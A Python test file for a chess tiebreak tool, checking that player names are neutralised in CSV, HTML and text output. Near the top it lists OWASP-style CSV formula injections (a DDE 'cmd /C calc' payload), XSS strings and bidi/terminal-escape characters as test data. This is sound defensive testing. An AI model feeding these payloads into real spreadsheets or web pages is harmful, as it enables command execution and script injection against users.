"""Hostile text from the input in every readable output: spreadsheet formulas in CSV, markup
in HTML (text, attribute and script contexts), control and bidirectional formatting
characters in text, CSV and HTML, decomposed and right-to-left names.

The rules are those of :mod:`tiebreaks.render.safe_text` and
:func:`tiebreaks.render.csv.spreadsheet_safe`; every expected text below is written by hand
from them.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from functools import cache
from xml.etree import ElementTree

import pytest

from tiebreaks import Standings, compute_standings, example_path, read_tournament
from tiebreaks.batch import BatchResult, summary_csv, summary_html
from tiebreaks.model import Tournament
from tiebreaks.model.text import shown_name, shown_text
from tiebreaks.render import comparison_text, standings_csv, standings_text
from tiebreaks.render.explain import placing_text, why_text
from tiebreaks.render.html import render_page, standings_html
from tiebreaks.render.safe_text import page_text
from tiebreaks.services.compare import compare_standings
from tiebreaks.services.explain import explain_participant, find_participant, why

from .test_html import page_data

#: spreadsheet formulas (OWASP's examples and variants): each must become text
FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
)
#: markup in every context a name reaches: element text, attributes, an inline script
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)",
    "</script><script>alert(4)</script>",
    "]]><!--",
)
#: characters that must never reach a readable output
FORBIDDEN = (
    *("\x00", "\x1b", "\x07", "\x7f", "\x85"),
    *("\u202a", "\u202b", "\u202c", "\u202d", "\u202e"),
    *("\u2066", "\u2067", "\u2068", "\u2069"),
)


def renamed(tournament: Tournament, names: dict[int, str]) -> Tournament:
    """The tournament with some players (by start number) renamed."""
    players = tuple(
        replace(player, name=names.get(player.start_number, player.name))
        for player in tournament.players
    )
    return replace(tournament, players=players)


@cache
def held_swiss() -> Tournament:
    """The 16-player Swiss of the FIDE exercises."""
    return read_tournament(example_path("held-swiss-16.trf"))


def standings_with(names: dict[int, str], title: str | None = None) -> Standings:
    """The Swiss with these names (and title), ranked by PTS, SB."""
    tournament = renamed(held_swiss(), names)
    if title is not None:
        tournament = replace(tournament, name=title)
    return compute_standings(tournament, "PTS,SB")


def csv_rows(text: str) -> list[list[str]]:
    """The cells of a CSV text."""
    return list(csv.reader(io.StringIO(text)))


# --- CSV: formulas ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+2", "'+1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\rx", "'\rx"),
        (" =1", "' =1"),
        ("\uff1d1", "'\uff1d1"),
        ("\uff0b1", "'\uff0b1"),
        ("-", "'-"),
        ("-1.5x", "'-1.5x"),
        # numbers stay numbers: they cannot be formulas
        ("-1.5", "-1.5"),
        ("+2", "+2"),
        ("2150", "2150"),
        ("0", "0"),
        ("12.60", "12.60"),
        # ordinary text stays
        ("Alyx", "Alyx"),
        ("O'Brien", "O'Brien"),
        ("1-0", "1-0"),
        ("", ""),
        ("Anne-Marie", "Anne-Marie"),
    ],
)
def test_spreadsheet_safe(cell: str, expected: str) -> None:
    from tiebreaks.render.csv import spreadsheet_safe

    assert spreadsheet_safe(cell) == expected


def test_standings_csv_neutralises_formulas_in_names_and_keeps_numbers() -> None:
    names = dict(enumerate(FORMULAS, start=1))
    plain = csv_rows(standings_csv(compute_standings(held_swiss(), "PTS,SB")))
    hostile = csv_rows(standings_csv(standings_with(names)))
    assert hostile[0] == ["rank", "id", "name", "rating", "PTS", "SB"]
    by_number = {int(row[1]): row for row in hostile[1:]}
    for number, formula in names.items():
        cell = by_number[number][2]
        if formula[0] in "\t\r":  # a control character in a name: replaced first, and the
            assert cell == "'\ufffd" + formula[1:]  # first visible character is "="
        else:
            assert cell == "'" + formula
    # every other cell (rank, number, rating, values) is what it is for the plain names
    assert [row[:2] + row[3:] for row in hostile] == [row[:2] + row[3:] for row in plain]


def test_a_name_that_is_a_number_stays_a_number() -> None:
    rows = csv_rows(standings_csv(standings_with({2: "-1.5", 3: "+2"})))
    names = {int(row[1]): row[2] for row in rows[1:]}
    assert names[2] == "-1.5"
    assert names[3] == "+2"


def test_batch_summary_csv_neutralises_every_cell() -> None:
    results: list[BatchResult] = [
        {"path": "=cmd|' /C calc'!A0.trf", "status": "ok", "participants": 16, "elapsed_ms": 3.5},
        {"path": "b\u202efdp.trf", "status": "error", "error": "@SUM(1)\x1b[2J", "elapsed_ms": 1},
    ]
    rows = csv_rows(summary_csv(results))
    assert rows[1][0] == "'=cmd|' /C calc'!A0.trf"
    assert rows[1][2] == "16"
    assert rows[1][-1] == "3.5"
    assert rows[2][0] == "b\ufffdfdp.trf"
    assert rows[2][6] == "'@SUM(1)\ufffd[2J"


# --- HTML: escaping --------------------------------------------------------------------------


def page_tree(page: str) -> ElementTree.Element:
    """The page parsed as XML (it is polyglot markup: a control character would break it)."""
    return ElementTree.fromstring(page.split("\n", 1)[1])


def check_no_injected_markup(root: ElementTree.Element) -> None:
    """No element or attribute that the input could have brought: one script (ours, or none
    in print mode) besides the data island, no image, no event handler."""
    tags = [element.tag for element in root.iter()]
    assert "img" not in tags
    scripts = [element.get("type") for element in root.iter("script")]
    assert scripts in ([], [None], ["application/gzip", None])
    for element in root.iter():
        assert not [name for name in element.attrib if name.lower().startswith("on")]
        if element.tag == "script":
            assert "alert" not in (element.text or "")


@pytest.mark.parametrize("print_mode", [False, True])
def test_html_escapes_names_and_title_in_text_and_attributes(print_mode: bool) -> None:
    names = dict(enumerate(MARKUP, start=1))
    title = "</title><script>alert(5)</script>"
    page = render_page(standings_with(names, title), "en", print_mode=print_mode)
    root = page_tree(page)
    check_no_injected_markup(root)
    assert "<script>alert" not in page
    texts = ["".join(element.itertext()) for element in root.iter("th")]
    # the explanations: written out in print mode, else the page's data (base64: no markup)
    told = (
        ["".join(element.itertext()) for element in root.iter("td")]
        if print_mode
        else [f"#{number} {name}" for number, name in page_data(root)["participants"]]
    )
    for name in names.values():
        assert name in texts  # the whole name, read back as text: escaped, not dropped
        assert any(f"#{number} {name}" in text for text in told for number in names)
    assert root.findtext("head/title") == title
    heading = root.find("body/header/h1")
    assert heading is not None and "".join(heading.itertext()) == title


def test_batch_summary_html_is_escaped() -> None:
    results: list[BatchResult] = [
        {"path": MARKUP[0], "status": '"><img src=x onerror=alert(1)>', "elapsed_ms": 1},
        {"path": "x.trf", "status": "error", "error": MARKUP[1], "elapsed_ms": 2},
    ]
    page = summary_html(results)
    assert "<script>" not in page
    assert "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert 'class="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"' in page


# --- control and bidirectional formatting characters -----------------------------------------

HOSTILE_NAMES = {
    1: "Alyx\x1b[2J\x07",
    2: "Bruno\u202eonurB",
    3: "Char\u2066line\u2069\u202c",
    4: "Da\x00vid\x85",
}
#: the same names as every readable output shows them (by hand: each listed character -> U+FFFD)
SHOWN = {
    1: "Alyx\ufffd[2J\ufffd",
    2: "Bruno\ufffdonurB",
    3: "Char\ufffdline\ufffd\ufffd",
    4: "Da\ufffdvid\ufffd",
}


def hostile_outputs() -> dict[str, str]:
    """Every readable output of the standings with :data:`HOSTILE_NAMES`."""
    standings = standings_with(HOSTILE_NAMES, "Open\u202e\x1b]0;title\x07")
    other = compute_standings(standings.tournament, "PTS,BH")
    first, second = find_participant(standings, "1"), find_participant(standings, "2")
    return {
        "text": standings_text(standings),
        "csv": standings_csv(standings),
        "html": standings_html(standings),
        "pdf page": render_page(standings, "de", print_mode=True),
        "explain": placing_text(standings, explain_participant(standings, first)),
        "why": why_text(standings, why(standings, first, second)),
        "compare": comparison_text(compare_standings(standings, other)),
    }


def test_no_control_or_bidi_character_reaches_a_readable_output() -> None:
    for kind, output in hostile_outputs().items():
        found = [hex(ord(char)) for char in FORBIDDEN if char in output]
        assert not found, (kind, found)


def test_neutralised_names_are_shown_with_replacement_characters() -> None:
    outputs = hostile_outputs()
    for kind in ("text", "csv", "html", "pdf page"):
        for name in SHOWN.values():
            assert name in outputs[kind], (kind, name)
    assert "#2 Bruno\ufffdonurB" in outputs["explain"] + outputs["why"]
    assert outputs["text"].startswith("Open\ufffd\ufffd]0;title\ufffd\n")


def test_json_keeps_names_exactly() -> None:
    from tiebreaks.render import standings_json

    document = standings_json(standings_with(HOSTILE_NAMES))
    assert "Bruno\\u202eonurB" in document or "Bruno\u202eonurB" in document
    assert "\ufffd" not in document


def test_shown_text_keeps_tabs_and_line_breaks() -> None:
    assert shown_text("a\tb\nc\rd\x1be") == "a\tb\nc\ufffdd\ufffde"
    assert shown_name("a\tb\nc") == "a\ufffdb\ufffdc"
    assert shown_text("\ud800") == "\ufffd"  # a lone surrogate (JSON can carry one)


def test_page_text_leaves_markup_and_other_values() -> None:
    from markupsafe import Markup

    assert page_text(Markup("<b>\u202e</b>")) == Markup("<b>\u202e</b>")
    assert page_text(3) == 3
    assert page_text("x\u202ey") == "x\ufffdy"


# --- Unicode: normalisation, width, right to left --------------------------------------------


def test_decomposed_names_are_shown_composed() -> None:
    standings = standings_with({2: "Mu\u0308ller"})
    for output in (standings_text(standings), standings_csv(standings), standings_html(standings)):
        assert "M\u00fcller" in output
        assert "Mu\u0308ller" not in output


def test_text_table_aligns_by_display_width() -> None:
    """Four-column names: "Abcd", "Mu\u0308ller"-like "Müll" (5 code points decomposed),
    the Arabic "محمد" (isolated: two invisible characters more) and "東京" (two wide
    characters, 4 columns in 2 code points). The rating column starts at the same column."""
    numbers = {1: "Abcd", 2: "Mu\u0308ll", 3: "\u0645\u062d\u0645\u062f", 4: "\u6771\u4eac"}
    text = standings_text(standings_with(numbers))
    ratings = {1: "2200", 2: "2150", 3: "2100", 4: "2050"}
    lines = {
        number: next(line for line in text.splitlines() if f"  {ratings[number]}  " in line)
        for number in numbers
    }
    column = lines[1].index("2200")
    assert lines[2].index("2150") == column  # composed: "Müll" is 4 code points
    assert lines[3].index("2100") == column + 2  # the isolates take no column
    assert "\u2068\u0645\u062d\u0645\u062f\u2069" in lines[3]
    assert lines[4].index("2050") == column - 2  # two wide characters: 4 columns


def test_right_to_left_names_are_isolated_in_the_page() -> None:
    arabic, hebrew = "\u0645\u062d\u0645\u062f \u0639\u0644\u064a 2", "\u05d3\u05d5\u05d3"
    page = standings_html(standings_with({2: arabic, 3: hebrew}, title=hebrew + " 2024"))
    root = page_tree(page)
    parents = {child: parent for parent in root.iter() for child in parent}
    found = 0
    body = root.find("body")
    assert body is not None
    for element in body.iter():  # not <title>: text only, no markup there
        if element.text in (arabic, hebrew, hebrew + " 2024"):
            found += 1
            assert element.tag == "span" and element.get("dir") == "auto", element.tag
            assert parents[element].tag in ("a", "th", "h1", "h3")
    # standings table and crosstable for each name, and the heading (the explanations are
    # drawn by the page's script, which puts the name in a <span dir="auto"> too)
    assert found == 5
    assert 'name.dir = "auto"' in page


def test_find_participant_matches_decomposed_and_composed_names() -> None:
    composed = standings_with({2: "M\u00fcller", 3: "\u0645\u062d\u0645\u062f"})
    assert find_participant(composed, "Mu\u0308ller").player.start_number == 2
    assert find_participant(composed, "mu\u0308LLER").player.start_number == 2
    assert find_participant(composed, "\u200f\u0645\u062d\u0645\u062f").player.start_number == 3
    decomposed = standings_with({2: "Mu\u0308ller"})
    assert find_participant(decomposed, "M\u00fcller").player.start_number == 2
    assert find_participant(decomposed, "m\u00fcll").player.start_number == 2


def test_find_participant_digits() -> None:
    from tiebreaks import UsageError

    standings = standings_with({})
    assert find_participant(standings, "#4").player.start_number == 4
    assert find_participant(standings, "\u0664").player.start_number == 4  # Arabic-Indic 4
    with pytest.raises(UsageError, match="no participant"):
        find_participant(standings, "\u00b2")  # superscript two: a digit, not a number


def test_find_participant_names_two_equal_names() -> None:
    from tiebreaks import UsageError

    standings = standings_with({2: "M\u00fcller", 3: "Mu\u0308ller"})
    with pytest.raises(UsageError, match=r"2 participants are named .*: #2 M\u00fcller, #3 M"):
        find_participant(standings, "muller".replace("u", "\u00fc"))
